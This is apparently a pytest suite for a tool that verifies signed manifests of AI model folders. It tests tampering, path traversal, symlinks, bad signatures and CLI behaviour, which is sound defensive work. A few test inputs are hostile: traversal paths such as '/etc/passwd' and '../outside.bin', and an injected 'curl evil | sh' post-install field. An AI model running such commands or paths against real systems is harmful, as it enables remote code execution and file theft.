"""Signed manifests: every way a model folder or its manifest can be wrong is
built for real on disk and gets its own, exact outcome."""

from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
from pathlib import Path

import pytest

from engine import manifest as m
from tests.support import BASTION, bastion

NAME = "demo"


def make_model(root: Path) -> Path:
    folder = root / "model"
    (folder / "sub").mkdir(parents=True)
    (folder / "config.json").write_text('{"hidden_size": 128}')
    (folder / "model.safetensors").write_bytes(os.urandom(300_000))
    (folder / "sub" / "tokenizer.json").write_text('{"vocab": {}}')
    return folder


class Signed:
    """A model folder, its manifest signed by a publisher key, and the trust list."""

    def __init__(self, root: Path, folder: Path, manifest: m.Manifest | None = None, name: str = NAME):
        self.root, self.folder = root, folder
        self.key_file = root / "publisher.key"
        if not self.key_file.exists():
            m.create_signing_key(self.key_file)
        self.key = m.load_private_key(self.key_file)
        self.trusted = {m.key_id_of(self.key.public_key()): self.key.public_key()}
        self.path = root / "model.manifest.json"
        self.write(manifest or m.create_manifest(folder, name=name, version="1"))

    def write(self, manifest: m.Manifest) -> None:
        m.write_signed(manifest, self.path, self.key)

    def verify(self, **kwargs: object) -> m.Verification:
        return m.verify(self.folder, self.path, self.trusted, expected_model=NAME, **kwargs)  # type: ignore[arg-type]


@pytest.fixture
def signed(tmp_path: Path) -> Signed:
    return Signed(tmp_path, make_model(tmp_path))


def kinds(result: m.Verification) -> list[tuple[str, str]]:
    return [(p.kind, p.path) for p in result.problems]


def test_untouched_folder_verifies(signed: Signed) -> None:
    result = signed.verify()
    assert result.ok, result.problems
    assert result.bytes_hashed == sum(f.stat().st_size for f in signed.folder.rglob("*") if f.is_file())
    assert result.key_id == next(iter(signed.trusted))
    assert len(result.manifest_sha256) == 64


def test_manifest_is_canonical_json(signed: Signed) -> None:
    data = signed.path.read_bytes()
    parsed = json.loads(data)
    assert data == json.dumps(parsed, sort_keys=True, separators=(",", ":"), ensure_ascii=True).encode()
    assert parsed["hash_algorithm"] == "sha256" and parsed["model"] == {"name": NAME, "version": "1"}
    assert [f["path"] for f in parsed["files"]] == ["config.json", "model.safetensors", "sub/tokenizer.json"]


def test_changed_byte(signed: Signed) -> None:
    f = signed.folder / "model.safetensors"
    data = bytearray(f.read_bytes())
    data[150_000] ^= 0x01
    f.write_bytes(bytes(data))
    assert kinds(signed.verify()) == [("changed", "model.safetensors")]


def test_truncated_and_grown(signed: Signed) -> None:
    (signed.folder / "config.json").write_text('{"hidden')
    with open(signed.folder / "sub" / "tokenizer.json", "a") as f:
        f.write(" ")
    result = signed.verify()
    assert kinds(result) == [("size", "config.json"), ("size", "sub/tokenizer.json")]
    assert "truncated" in result.problems[0].detail and "grown" in result.problems[1].detail


def test_missing_file(signed: Signed) -> None:
    (signed.folder / "sub" / "tokenizer.json").unlink()
    assert kinds(signed.verify()) == [("missing", "sub/tokenizer.json")]


def test_extra_file_and_allowed_patterns(signed: Signed) -> None:
    (signed.folder / "README.md").write_text("hi")
    (signed.folder / "sub" / "evil.py").write_text("import os")
    assert kinds(signed.verify()) == [("extra", "README.md"), ("extra", "sub/evil.py")]
    allowed = signed.verify(policy=m.FolderPolicy(allow_extra=("README.md",)))
    assert kinds(allowed) == [("extra", "sub/evil.py")]


def test_symlinks_refused_unless_internal_ones_are_allowed(signed: Signed, tmp_path: Path) -> None:
    outside = tmp_path / "outside.bin"
    outside.write_bytes(b"x")
    (signed.folder / "escape.bin").symlink_to(outside)
    result = signed.verify()
    assert kinds(result) == [("symlink", "escape.bin")] and "outside" in result.problems[0].detail
    (signed.folder / "escape.bin").unlink()
    # A link that stays inside: refused by default, accepted (and hashed) when allowed and listed.
    (signed.folder / "alias.json").symlink_to(signed.folder / "config.json")
    assert kinds(signed.verify()) == [("symlink", "alias.json")]
    policy = m.FolderPolicy(allow_internal_symlinks=True)
    signed.write(m.create_manifest(signed.folder, name=NAME, version="1", policy=policy))
    assert signed.verify(policy=policy).ok


def test_symlinked_directory_is_refused(signed: Signed, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (signed.folder / "linked").symlink_to(tmp_path / "elsewhere")
    assert kinds(signed.verify()) == [("symlink", "linked")]


def test_special_file_is_refused(signed: Signed) -> None:
    os.mkfifo(signed.folder / "pipe")
    assert kinds(signed.verify()) == [("special_file", "pipe")]


@pytest.mark.parametrize(
    ("paths", "detail"),
    [
        (["/etc/passwd"], "absolute"),
        (["../outside.bin"], "not normalised"),
        (["sub/../config.json"], "not normalised"),
        (["./config.json"], "not normalised"),
        (["config.json", "config.json"], "repeats"),
        (["Config.json", "config.json"], "differs only by case"),
        (["C:/model.bin"], "absolute"),
    ],
)
def test_bad_manifest_paths(signed: Signed, paths: list[str], detail: str) -> None:
    files = [m.ManifestFile(path=p, size=1, sha256="0" * 64) for p in paths]
    signed.write(m.Manifest(format=m.FORMAT, model=m.ModelId(NAME, "1"), created_at="2026-01-01T00:00:00Z",
                            hash_algorithm="sha256", files=files))  # fmt: skip
    result = signed.verify()
    assert result.problems and all(p.kind == "bad_path" for p in result.problems)
    assert any(detail in p.detail for p in result.problems)
    assert result.bytes_hashed == 0, "nothing is hashed under a bad manifest"


def test_bad_signature(signed: Signed) -> None:
    data = bytearray(signed.path.read_bytes())
    data[data.index(b'"version":"1"') + 11] = ord("2")  # still valid JSON, different bytes
    signed.path.write_bytes(bytes(data))
    assert kinds(signed.verify()) == [("bad_signature", str(m.signature_path(signed.path)))]


def test_missing_or_garbled_signature_file(signed: Signed) -> None:
    m.signature_path(signed.path).write_text("not json")
    assert [p.kind for p in signed.verify().problems] == ["bad_signature"]
    m.signature_path(signed.path).unlink()
    assert [p.kind for p in signed.verify().problems] == ["bad_signature"]


def test_unknown_key(signed: Signed, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    stranger = Signed(other, signed.folder)  # same folder, signed by a key nobody trusts
    result = m.verify(signed.folder, stranger.path, signed.trusted, expected_model=NAME)
    assert [p.kind for p in result.problems] == ["unknown_key"]


def test_manifest_for_another_model(tmp_path: Path) -> None:
    folder = make_model(tmp_path)
    signed = Signed(tmp_path, folder, name="someone-else")
    result = signed.verify()
    assert [p.kind for p in result.problems] == ["wrong_model"]
    assert "someone-else" in result.problems[0].detail


def test_oversized_manifest(signed: Signed) -> None:
    with open(signed.path, "ab") as f:
        f.truncate(m.MAX_MANIFEST_BYTES + 1)
    assert [p.kind for p in signed.verify().problems] == ["too_large"]


def test_unknown_fields_in_manifest_are_refused(signed: Signed) -> None:
    parsed = json.loads(signed.path.read_bytes())
    parsed["post_install"] = "curl evil | sh"
    data = json.dumps(parsed, sort_keys=True, separators=(",", ":")).encode()
    signed.path.write_bytes(data)
    m.write_signature(signed.path, data, signed.key)
    assert [p.kind for p in signed.verify().problems] == ["bad_manifest"]


def test_parallel_hashing_matches_one_thread(tmp_path: Path) -> None:
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(12):
        (folder / f"shard-{i:02d}.bin").write_bytes(os.urandom(50_000 * (i + 1)))
    one = m.hash_files(folder, sorted(os.listdir(folder)), workers=1)
    many = m.hash_files(folder, sorted(os.listdir(folder)), workers=8)
    assert one == many and len(one) == 12


# ------------------------------------------------------------------- the CLI


def test_cli_round_trip_and_exit_codes(tmp_path: Path) -> None:
    folder = make_model(tmp_path)
    key = tmp_path / "pub.key"
    out = json.loads(bastion("signing-key", "create", "--out", str(key), "--json").stdout)
    assert key.stat().st_mode & 0o777 == 0o600 and Path(str(key) + ".pub").exists()
    man = tmp_path / "model.manifest.json"
    bastion("manifest", "create", str(folder), "--out", str(man), "--name", NAME)
    bastion("manifest", "sign", str(man), "--key", str(key))
    verify = ["manifest", "verify", str(folder), "--manifest", str(man), "--trusted-key", str(key) + ".pub"]
    ok = json.loads(bastion(*verify, "--model", NAME, "--json").stdout)
    assert ok["ok"] and ok["key_id"] == out["key_id"]
    (folder / "config.json").write_text('{"hidden_size": 256}')
    (folder / "extra.txt").write_text("x")
    failed = bastion(*verify, check=False)
    assert failed.returncode == 1
    assert "changed: config.json" in failed.stderr and "extra: extra.txt" in failed.stderr
    assert bastion(*verify, "--model", "other", check=False).returncode == 1
    # Usage errors: 2. Overwriting a key is refused.
    assert bastion("signing-key", "create", "--out", str(key), check=False).returncode == 2
    assert bastion("manifest", "verify", str(folder), check=False).returncode == 2


def test_sign_refuses_a_manifest_that_is_not_canonical(tmp_path: Path) -> None:
    folder = make_model(tmp_path)
    key = tmp_path / "k"
    bastion("signing-key", "create", "--out", str(key))
    man = tmp_path / "m.json"
    bastion("manifest", "create", str(folder), "--out", str(man))
    man.write_text(json.dumps(json.loads(man.read_text()), indent=2))
    assert bastion("manifest", "sign", str(man), "--key", str(key), check=False).returncode == 1


def test_a_failed_rewrite_keeps_the_signed_manifest_whole(tmp_path: Path) -> None:
    """Rewriting a manifest and its signature on a full disk (a real one: the
    process's file-size limit, so every write past 100 bytes fails with EFBIG)
    leaves the old files whole and verifying, and no temporary file behind."""
    folder = make_model(tmp_path)
    key = tmp_path / "k"
    bastion("signing-key", "create", "--out", str(key))
    man = tmp_path / "m.json"
    bastion("manifest", "create", str(folder), "--out", str(man), "--name", NAME)
    bastion("manifest", "sign", str(man), "--key", str(key))
    before = sorted(tmp_path.iterdir())
    kept = man.read_bytes(), m.signature_path(man).read_bytes()

    def full_disk() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (100, 100))

    for args in (
        ["manifest", "create", str(folder), "--out", str(man)],
        ["manifest", "sign", str(man), "--key", str(key)],
    ):
        failed = subprocess.run([BASTION, *args], capture_output=True, text=True, preexec_fn=full_disk, check=False)
        assert failed.returncode != 0 and "File too large" in failed.stderr
    assert (man.read_bytes(), m.signature_path(man).read_bytes()) == kept
    assert sorted(tmp_path.iterdir()) == before
    verify = ["manifest", "verify", str(folder), "--manifest", str(man), "--trusted-key", str(key) + ".pub"]
    assert json.loads(bastion(*verify, "--model", NAME, "--json").stdout)["ok"]


def test_copy_of_model_keeps_verifying(signed: Signed, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(signed.folder, copy)
    assert m.verify(copy, signed.path, signed.trusted, expected_model=NAME).ok
